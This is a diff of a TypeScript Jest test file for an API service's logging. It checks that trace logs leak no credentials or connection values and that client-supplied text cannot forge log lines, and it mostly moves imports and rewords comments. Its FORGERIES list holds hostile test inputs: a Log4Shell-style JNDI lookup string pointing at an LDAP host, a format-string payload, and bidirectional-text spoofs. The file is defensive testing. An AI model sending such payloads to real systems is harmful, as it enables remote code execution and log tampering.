@@ -1,8 +1,8 @@
 import { randomUUID } from 'node:crypto';
 import { inspect } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
-import { createLogger } from '../../src/common/logger.js';
-import { UnitOfWork } from '../../src/database/unit-of-work.js';
+import { createLogger } from '../../src/platform/logging/logger.js';
+import { UnitOfWork } from '../../src/platform/database/unit-of-work.js';
 import fake from '../../src/drivers/fake/fake.driver.js';
 import { aConnector, type Api } from '../support/api.js';
 import { onSqlite } from '../support/databases.js';
@@ -12,7 +12,7 @@ const CALLS = ['createExport', 'initializeConnection', 'terminateConnection', 'r
 
 const createFake = fake.create.bind(fake);
 
-/** Credentials in whatever a driver gets or makes. */
+/** Credentials in any value that a driver receives or returns. */
 function credentialsIn(value: unknown): string[] {
   return [...JSON.stringify(value ?? null).matchAll(/"auth_(?:username|password)":"([^"]+)"/g)].map(
     ([, found]) => found!,
@@ -20,9 +20,8 @@ function credentialsIn(value: unknown): string[] {
 }
 
 /**
- * The fake driver, but that connectors with `leak` make it fail the way command line tools do: what it was given and
- * what it made stand in the message, in standard error and in the command line. What else the connector says is in the
- * message, too.
+ * The fake driver, except that connectors with `leak` make it fail like command line tools do: with its input and output
+ * in the message, in standard error and in the command line. The message also holds the rest of the connector.
  */
 function createLeaking(...args: Parameters<typeof fake.create>): ReturnType<typeof fake.create> {
   const [, { log }] = args;
@@ -65,7 +64,7 @@ afterAll(async () => {
 const action = (volume: string, body: object, headers: Record<string, string> = {}) =>
   api.send('POST', `/v3/volumes/${volume}/action`, body, headers);
 
-/** Text of all lines, read as JSON, since a secret may be written with escapes. */
+/** Text of all lines, parsed as JSON, since a secret may be escaped. */
 const logged = (): string => server.log.map((line) => inspect(JSON.parse(line), { depth: 20 })).join('\n');
 
 describe('no log line at level trace holds', () => {
@@ -136,7 +135,7 @@ describe('no log line at level trace holds', () => {
     expect([answer.status, answer.message]).toEqual([500, expect.not.stringContaining('refused')]);
     const lines = server.log.slice(before).join('');
     expect(lines).toContain('SQLITE_CONSTRAINT: refused');
-    // Anything of the connection: that its password is masked is not enough, the values are nobody's business.
+    // Not even with a masked password: no value of the connection may be logged.
     expect(lines).not.toMatch(/target_iqn|auth_method|discard/);
   });
 
@@ -148,7 +147,7 @@ describe('no log line at level trace holds', () => {
   });
 });
 
-/** What a terminal, a reader of lines or a reader of JSON might take for something else. */
+/** Texts that a terminal, a line reader or a JSON reader might misinterpret. */
 const FORGERIES: readonly string[] = [
   'a\nb',
   'a\r\nb',
@@ -162,12 +161,11 @@ const FORGERIES: readonly string[] = [
   '\u202egnp.exe',
   '\u2066hidden\u2069',
   '\u0000nul',
-  '\ud800half',
   '${jndi:ldap://192.0.2.1/a}',
   '%n%s%x',
 ];
 
-/** Printable characters alone, and those above them that no terminal obeys. */
+/** Characters that a log line must not hold: control characters, and others that terminals obey. */
 const DECEPTIVE = /[^\P{Cc}\n]|[\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/u;
 
 function expectOneHonestLine(line: string): void {
@@ -177,7 +175,7 @@ function expectOneHonestLine(line: string): void {
   const parsed = JSON.parse(line) as Record<string, unknown>;
   expect(['trace', 'debug', 'info', 'warn', 'error']).toContain(parsed['level']);
   expect(parsed).not.toHaveProperty('forged');
-  // A second value under a name would hide the first from whoever reads the line.
+  // A duplicate key would hide the first from whoever reads the line.
   expect([...line.matchAll(/[{,]"level":/g)]).toHaveLength(1);
 }
 
@@ -217,7 +215,7 @@ describe('a text that a client chose stays a text in one line', () => {
     expect(JSON.parse(lines[12]!)).toHaveProperty('text', FORGERIES[6]);
   });
 
-  it('an error is told by its type, message and stack alone', () => {
+  it('an error is logged only with its type, message and stack', () => {
     const lines: string[] = [];
     const log = createLogger({ log_level: 'trace' }, { write: (line) => void lines.push(line) });
     const circle = new Error('outer');
